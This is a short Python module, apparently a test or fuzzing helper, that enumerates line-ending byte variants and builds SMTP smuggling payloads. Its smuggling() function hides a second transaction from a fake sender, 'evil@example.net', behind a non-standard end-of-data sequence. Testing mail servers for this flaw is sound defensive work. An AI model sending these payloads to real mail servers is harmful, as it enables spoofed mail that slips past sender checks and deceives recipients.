"""Every way to write something like the end of the content, with a second mail behind it."""

from typing import Final

LINE_ENDS: Final = {
    "CRLF": b"\r\n",
    "LF": b"\n",
    "CR": b"\r",
    "CRCRLF": b"\r\r\n",
    "LFCR": b"\n\r",
    "NUL CRLF": b"\0\r\n",
    "CRLF NUL": b"\r\n\0",
    "space CRLF": b" \r\n",
    "VT": b"\x0b",
    "NEL": b"\xc2\x85",
    "U+2028": b"\xe2\x80\xa8",
    "LFLF": b"\n\n",
}
VARIANTS: Final = [
    (f"{before} . {after}", LINE_ENDS[before] + b"." + LINE_ENDS[after])
    for before in LINE_ENDS
    for after in LINE_ENDS
]


def is_honest(variant: bytes) -> bool:
    """Whether it ends in the one true end: what follows is another transaction in its own
    right, as a pipelining client may send it."""
    return variant.endswith(b"\r\n.\r\n")


def smuggling(variant: bytes, recipient: bytes, mark: bytes) -> bytes:
    """What is sent after 354: content, the variant, and another transaction in disguise."""
    return (
        b"Subject: first " + mark + b"\r\n\r\nbody" + variant + b"MAIL FROM:<evil@example.net>\r\n"
        b"RCPT TO:<" + recipient + b">\r\nDATA\r\nSubject: second " + mark + b"\r\n\r\nx\r\n.\r\n"
    )
